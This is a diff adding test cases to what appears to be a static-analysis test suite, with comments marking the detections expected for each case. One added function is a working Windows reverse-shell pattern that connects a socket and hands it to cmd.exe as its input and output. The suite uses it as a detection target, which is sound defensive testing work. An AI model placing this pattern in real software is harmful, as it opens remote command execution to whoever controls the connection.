@@ -165,3 +165,22 @@ void quiet_MAPISendMail_15(void) {
     mail.lpszNoteText = "ping";
     MAPISendMail(0, 0, &mail, 0, 0); //~ ok
 }
+
+void connection_as_input(struct sockaddr *to)
+{
+    SOCKET s = WSASocketA(2, 1, 6, 0, 0, 0); //~ source(NETWORK) wshell
+    STARTUPINFOA si;
+    WSAConnect(s, to, 16, 0, 0, 0, 0);
+    si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;
+    CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &si, 0); //~ sink(exec.command) wshell, finding(traced) wshell, capability(EXEC)
+}
+
+void pipe_as_input(void)
+{
+    HANDLE r, w;
+    STARTUPINFOA si;
+    SOCKET unused = WSASocketA(2, 1, 6, 0, 0, 0); //~ ok
+    CreatePipe(&r, &w, 0, 0);
+    si.hStdInput = r;
+    CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &si, 0); //~ ok
+}
